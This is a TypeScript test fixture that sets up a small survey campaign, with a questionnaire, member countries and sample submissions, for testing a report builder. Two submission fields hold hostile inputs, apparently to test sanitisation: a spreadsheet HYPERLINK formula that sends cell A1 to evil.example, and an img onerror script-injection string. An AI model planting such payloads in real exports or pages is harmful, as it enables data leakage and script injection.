// A small campaign whose report figures are worked out by hand in the tests that use it.
import type { Member } from "../../../../functions/core/directory.ts";
import { buildInputsReport, type Translate } from "../../../../functions/core/report/inputs-report.ts";
import type { ResponseVersion } from "../../../../functions/core/responses.ts";
import {
  campaign,
  items,
  member,
  question,
  questionnaire,
  submission,
  text,
} from "../../../support/factories.ts";

/** Five sections, as the shipped questionnaire has them: who replied, priorities, work plan, RIAL. */
export const q = questionnaire([], {
  sections: [
    {
      id: "respondent",
      title: text("Respondent"),
      questions: [question("language", "single-choice", { options: items("es", "en") })],
    },
    {
      id: "main",
      title: text("Priorities"),
      questions: [
        question("scores", "scale", { items: "topics", min: 1, max: 10, required: true }),
        question("top", "top-n", { items: "topics", n: 2 }),
        question("achievements", "long-text"),
      ],
    },
    {
      id: "work-plan",
      title: text("Work plan"),
      questions: [
        question("host", "yes-no", { when: { group: ["government"] } }),
        question("host-offer", "group", {
          when: { all: [{ group: ["government"] }, { question: "host", equals: true }] },
          itemLabel: text("Event"),
          fields: [question("event", "short-text"), question("period", "short-text")],
        }),
        question("pledge", "money", { currencies: ["USD", "EUR"], when: { group: ["government"] } }),
        question("pledge-year", "number", { integer: true, when: { question: "pledge", answered: true } }),
        question("in-kind", "multiple-choice", { options: items("experts", "venue", "translation") }),
        question("in-kind-details", "long-text", { when: { question: "in-kind", answered: true } }),
      ],
    },
    {
      id: "rial",
      title: text("RIAL"),
      questions: [
        question("fund", "allocation", { items: items("a", "b", "c"), total: 100 }),
        question("tools", "scale", { items: items("x", "y"), min: 1, max: 5 }),
        question("needs", "group", {
          itemLabel: text("Need"),
          fields: [
            question("topic", "single-choice", { options: "topics" }),
            question("preferred-provider", "short-text"),
            question("description", "short-text"),
          ],
        }),
        question("offers", "group", {
          itemLabel: text("Offer"),
          fields: [
            question("programme", "short-text"),
            question("topic", "single-choice", { options: "topics" }),
            question("in-portfolio", "yes-no"),
          ],
        }),
        question("comments", "long-text"),
      ],
    },
  ],
});

const country = (code: string, en: string, es: string, subregion: Member["subregion"]) =>
  member(code, { name: { es, en, fr: en, pt: es }, subregion });

export const members: Member[] = [
  country("ARG", "Argentina", "Argentina", "southern-cone"),
  country("BRA", "Brazil", "Brasil", "southern-cone"),
  country("CHL", "Chile", "Chile", "andean"),
  country("MEX", "Mexico", "México", "north-america"),
  member("COSATE", { group: "workers", subregion: undefined }),
  member("CEATAL", { group: "employers", subregion: undefined }),
];

export const INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
export const MARKUP = "<img src=x onerror=alert(1)>";

export const submissions: ResponseVersion[] = [
  submission("ARG", {
    language: "es",
    scores: { alpha: 8, beta: 4, gamma: 6, delta: 1 },
    top: ["alpha", "gamma"],
    achievements: "More studies",
    host: true,
    "host-offer": [{ event: "WG1 meeting", period: "2027" }],
    pledge: { amount: 1000.1, currency: "USD" },
    "pledge-year": 2026,
    "in-kind": ["experts", "venue"],
    "in-kind-details": "Two experts",
    fund: { a: 50, b: 50 },
    needs: [{ topic: "beta", "preferred-provider": "Brasil", description: "Inspection" }],
    offers: [{ programme: "Dialogue", topic: "gamma" }],
  }),
  submission("BRA", {
    language: "en",
    scores: { alpha: 6, beta: 10, gamma: 6 },
    top: ["beta", "alpha"],
    host: false,
    pledge: { amount: 2000.2, currency: "USD" },
    fund: { a: 20, b: 30, c: 50 },
    tools: { x: 4 },
    needs: [{ topic: "alpha", description: "Skills" }],
    offers: [{ programme: "Digital inspection", topic: "beta", "in-portfolio": true }],
  }),
  submission("CHL", {
    scores: { alpha: 5, beta: 5, gamma: 5, delta: 5 },
    top: ["gamma", "beta"],
    pledge: { amount: 500, currency: "EUR" },
    needs: [{ topic: "beta", "preferred-provider": "argentina" }],
    offers: [{ programme: "Labour courts", topic: "beta" }],
    comments: MARKUP,
  }),
  submission("COSATE", {
    scores: { alpha: 1, beta: 1, gamma: 3, delta: 2 },
    top: ["gamma"],
    achievements: "Social dialogue",
    "in-kind": ["experts"],
    fund: { a: 100 },
    offers: [{ programme: "Training", topic: "alpha" }],
  }),
  submission("CEATAL", {
    achievements: INJECTION,
    needs: [{ description: "General" }],
  }),
];

const STRINGS: Record<string, string> = { "common.yes": "Yes", "common.no": "No" };
export const t: Translate = (key) => STRINGS[key] ?? key;

export const buildReport = (subs = submissions, invited = ["ARG", "BRA", "CHL", "MEX", "COSATE", "CEATAL"]) =>
  buildInputsReport({
    campaign: campaign({ invited }),
    questionnaire: q,
    members,
    submissions: subs,
    lang: "en",
    generatedAt: new Date("2026-03-01T12:00:00Z"),
    t,
  });
